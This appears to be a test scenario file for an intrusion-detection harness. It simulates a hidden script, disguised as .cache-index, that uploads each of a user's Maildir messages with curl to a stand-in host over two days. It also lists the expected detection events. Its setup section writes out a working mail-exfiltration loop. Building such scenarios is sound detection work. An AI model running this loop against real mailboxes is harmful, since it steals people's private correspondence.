# Patience: some messages an hour, for two days.
title="Twenty messages an hour for two days, one small upload each"
what="A script left behind in a login of buyer reads one message of the Maildir at a time and posts it with curl to 203.0.113.80, with long pauses, for two days. No hour is remarkable. Real reads and transfers recorded in some minutes; times spread by lib/shift_time.py."
host=mx1.example.org user=buyer daemons="cron sshd"
shift_plan="before:1h slow:2d"

setup() {
  cat > /home/buyer/.cache-index <<'P'
for f in "$HOME"/Maildir/new/*; do
  curl -s -o /dev/null --data-binary @"$f" http://files.example.net/s/$RANDOM
  sleep 0.8
done
P
  chown buyer: /home/buyer/.cache-index
}
act() {
  phase before
  mail_in --from 'partner%n@example.net' --to buyer@example.org --subject 'Contract %n' --count 60
  wait_mail buyer 60
  phase slow
  ssh_run buyer 'setsid nohup bash .cache-index >/dev/null 2>&1 & sleep 0.5'
  local n
  for n in $(seq 1 52); do mail_in --from "office$n@example.net" --to clerk@example.org --subject "Note $n"; sleep 0.6; done
}
truth() {
  exec_step start 'bash .cache-index' 'a script stays behind'
  file_step read 'curl openat:read NORMAL .*Maildir/new' 'it takes a message'
  net_step connect 'curl 203.0.113.80:80' 'and posts it'
}
